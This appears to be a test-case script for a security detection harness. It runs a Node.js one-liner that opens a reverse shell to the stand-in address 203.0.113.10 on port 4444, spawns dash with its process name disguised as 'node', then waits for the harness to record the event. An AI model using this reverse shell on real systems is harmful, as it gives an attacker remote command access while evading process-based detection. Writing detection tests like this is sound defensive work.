#!/bin/sh
. /opt/case/case.sh

node -e '
const { spawn } = require("child_process");
const s = require("net").connect({ host: "203.0.113.10", port: 4444, pauseOnConnect: true }, () => {
    spawn("/usr/bin/dash", [], { stdio: [s, s, s], argv0: "node" }).on("exit", () => process.exit(0));
});'
wait_for /tmp/reached
took_place
